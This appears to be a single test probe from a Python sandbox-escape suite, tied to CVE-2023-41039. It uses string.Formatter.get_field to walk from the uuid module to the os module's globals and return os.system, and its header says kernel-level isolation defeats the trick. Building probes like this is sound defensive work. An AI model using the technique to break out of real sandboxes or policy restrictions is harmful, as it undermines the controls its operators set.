# title: Let a formatter hand out objects
# tries: Calls string.Formatter.get_field, which walks attributes as str.format does but returns the object itself.
# impact: Integrity
# reference: CVE-2023-41039
# proof: returned
# host: run
# allowed: policy off
# advice: Count on the kernel, not on rules about Python: with isolation around the process this gains nothing.


def attempt(host):
    import string
    import uuid

    found, _ = string.Formatter().get_field("0.UUID.__init__.__globals__[os]", (uuid,), {})
    return f"{found.system} by a formatter"
